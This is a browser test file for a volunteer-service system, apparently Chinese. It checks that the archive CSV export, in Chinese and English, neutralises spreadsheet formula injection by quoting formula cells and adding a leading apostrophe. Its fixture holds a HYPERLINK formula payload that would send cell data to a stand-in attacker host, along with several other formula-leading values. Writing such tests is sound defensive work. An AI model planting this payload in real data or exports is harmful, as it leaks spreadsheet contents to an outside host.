// Browser test of issue 11 §1.5 on a district of the demo's size: a
// service record whose beneficiary is a spreadsheet formula, downloaded
// from the volunteer's archive page with the console's CSV button in
// Chinese and in English, opens as text, never as a live formula (the
// cell is quoted and starts with '), and the page itself shows the text
// as typed, not a link. Run from the repository root:
// node --test tests/browser/fuzz.test.mjs
// Needs build/zhiyuan and a built web/dist. Everyone here is synthetic.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { startDistrict } from '../lib/district.mjs'
import { branch } from '../lib/fixtures.mjs'
import { Client } from '../lib/client.mjs'
import { residentId } from '../lib/ids.mjs'
import { withTimeout, launchBrowser, newContext, shot, byTest, steps, signIn, needWebBuild, closeSuite, watchedPage } from '../lib/browser.mjs'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
const H = 3600 * 1000
let srv = null
let base = ''
let browser = null
let page = null
const pageErrors = []
const data = {}
const iso = (msAgo) => new Date(Date.now() - msAgo).toISOString().replace(/\.\d+Z$/, 'Z')
const step = steps('fuzz-', () => page)

async function prepare() {
  const admin = new Client(base)
  await admin.login('admin', srv.adminPassword)
  const suffix = Date.now().toString(36).slice(-4)
  const { station } = await branch(admin, { association: `公式防护协会${suffix}`, station: `公式社区工作站${suffix}`, town: '510115008' })
  const v = await admin.post('/api/v1/volunteers', { name: '欧阳公式', id_type: 'resident_id', id_number: residentId('510115', '19910203', 233),
    phone: '13912345633', region_code: '510115008001', org_id: station.id, consent: { sensitive: true, notice_version: '2026-11' } })
  assert.equal(v.status, 201, v.text)
  data.volunteer = v.json
  const activity = await admin.post('/api/v1/activities', { name: `@SUM(1+1)助老${suffix}`, org_id: station.id, starts_at: iso(30 * H), ends_at: iso(27 * H), place: '公式社区', content: '陪伴独居老人' })
  assert.equal(activity.status, 201, activity.text)
  data.activityName = activity.json.name
  const r = await admin.post('/api/v1/records', { activity_id: activity.json.id, volunteer_id: v.json.id, minutes: 120, quality: 'good',
    beneficiary: HYPERLINK, place: '+86 028 8272 2222', content: '-2+3' })
  assert.equal(r.status, 201, r.text)
  data.recordId = r.json.id
}

before(async () => {
  needWebBuild()
  srv = await withTimeout(startDistrict(), 90_000, 'startDistrict')
  base = srv.url
  await withTimeout(prepare(), 30_000, 'prepare')
  browser = await launchBrowser()
})

after(() => closeSuite(browser, srv))

// The CSV as the browser saved it, split into cells (RFC 4180)
function cellsOf(text) {
  const rows = []
  let row = []
  let i = 0
  while (i < text.length) {
    let raw
    if (text[i] === '"') {
      let j = i + 1
      while (!(text[j] === '"' && text[j + 1] !== '"')) j += text[j] === '"' ? 2 : 1
      raw = text.slice(i, j + 1)
      i = j + 1
    } else {
      let j = i
      while (j < text.length && text[j] !== ',' && text[j] !== '\r') j++
      raw = text.slice(i, j)
      i = j
    }
    row.push(raw)
    if (text[i] === ',') i++
    else { rows.push(row); row = []; i += 2 }
  }
  return rows
}

async function download(lang) {
  const context = await newContext(browser, { acceptDownloads: true })
  if (lang === 'en') await context.addInitScript(() => window.localStorage.setItem('zhiyuan.locale', 'en'))
  page = await watchedPage(context, pageErrors)
  await signIn(page, base, 'admin', srv.adminPassword)
  await page.goto(`${base}/volunteers/${data.volunteer.id}?tab=archive`)
  const button = page.locator(byTest('archive-csv'))
  await button.waitFor()
  // the page shows what was typed, as text: no link to the attacker's site
  await page.getByText(data.activityName).first().waitFor()
  assert.equal(await page.locator('a[href*="evil.example"]').count(), 0)
  const [file] = await Promise.all([page.waitForEvent('download'), button.click()])
  assert.equal(file.suggestedFilename(), 'archive.csv')
  const text = (await readFile(await file.path(), 'utf8')).replace(/^\uFEFF/, '')
  await shot(page, `fuzz-archive-${lang}`)
  await context.close()
  return cellsOf(text)
}

test('a formula typed as a beneficiary downloads as text from the archive page', async (t) => {
  for (const [lang, head] of [['zh', { beneficiary: '服务对象', place: '地点', content: '内容', activity: '活动', minutes: '登记时长(分钟)' }],
    ['en', { beneficiary: 'Beneficiary', place: 'Place', content: 'Content', activity: 'Activity', minutes: 'Minutes entered' }]]) {
    await step(t, `the archive CSV downloaded in ${lang} quotes every formula cell with a leading '`, async () => {
      const rows = await download(lang)
      assert.equal(rows.length, 2, 'the header and the one record')
      const cell = (name) => rows[1][rows[0].indexOf(name)]
      assert.equal(cell(head.beneficiary), `"'${HYPERLINK.replaceAll('"', '""')}"`)
      assert.equal(cell(head.place), `"'+86 028 8272 2222"`)
      assert.equal(cell(head.content), `"'-2+3"`)
      assert.equal(cell(head.activity), `"'${data.activityName}"`)
      assert.equal(cell(head.minutes), '120', 'a number stays a bare number')
      for (const raw of rows.flat()) assert.doesNotMatch(raw, /^[=+@\t\r]|^-\D/, raw)
    })
  }
  await step(t, 'no page error on the way', async () => {
    assert.deepEqual(pageErrors, [])
  })
})
